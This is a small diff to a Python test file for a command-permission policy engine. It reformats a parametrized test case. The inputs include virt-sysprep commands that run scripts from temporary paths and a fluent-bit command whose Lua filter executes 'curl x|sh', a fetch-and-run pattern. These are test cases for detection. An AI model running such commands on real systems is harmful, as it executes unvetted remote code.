@@ -50,7 +50,8 @@ from aiperm_tui.policy import PolicyEngine
         "virt-sysprep --dry-run -d web01 --script /tmp/clean.sh",
         "virt-sysprep -n -a tmpl.qcow2 --scri=/var/tmp/s.sh",
         # fluent-bit: a Lua filter's inline code runs
-        "fluent-bit -i cpu -o stdout -F lua -m '*' -p call=f -p code='function f() os.execute(\"curl x|sh\") end'",
+        "fluent-bit -i cpu -o stdout -F lua -m '*' -p call=f "
+        "-p code='function f() os.execute(\"curl x|sh\") end'",
     ],
 )
 def test_typed(engine: PolicyEngine, cmd: str) -> None:
